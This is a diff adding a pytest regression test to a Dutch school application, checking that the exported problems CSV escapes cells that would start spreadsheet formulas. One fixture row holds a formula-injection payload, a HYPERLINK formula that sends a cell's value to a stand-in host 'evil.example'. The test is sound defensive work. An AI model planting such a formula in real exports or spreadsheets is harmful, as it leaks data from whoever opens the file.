@@ -125,3 +125,24 @@ class TestOtherOrganisations:
     def test_learner_gets_403(self, client, auth, demo):
         auth.login("vanessa@example.nl")
         assert client.get(BASE).status_code == 403
+
+
+class TestProblemsFileIsSafeInASpreadsheet:
+    """CSV injection: cells of the problems file never start a formula (#15 item 12)."""
+
+    def test_formula_cells_are_escaped(self, client, auth, demo):
+        auth.login("docent@rocdemaasvallei.example")
+        rows = [
+            'bad-email;=HYPERLINK("https://evil.example/?"&A1;"klik");K0692;2026-P1;goed;;31-12-2030',
+            "+31612345678;@SUM(1+1);K0692;2026-P1;goed;;31-12-2030",
+            "-2+3;\tnaam;K0692;2026-P1;=1+1;;31-02-2030",
+        ]
+        header = make_csv(0).splitlines()[0]
+        url = job_url(upload(client, "\r\n".join([header, *rows]) + "\r\n"))
+        text = client.get(url + "/problemen.csv").get_data(as_text=True).lstrip("\ufeff")
+        import csv
+        cells = [c for row in list(csv.reader(io.StringIO(text), delimiter=";"))[1:] for c in row]
+        assert len(cells) > 10
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+        assert {"'=HYPERLINK(\"https://evil.example/?\"&A1", "'@SUM(1+1)", "'+31612345678",
+                "'-2+3", "'=1+1"} <= set(cells)
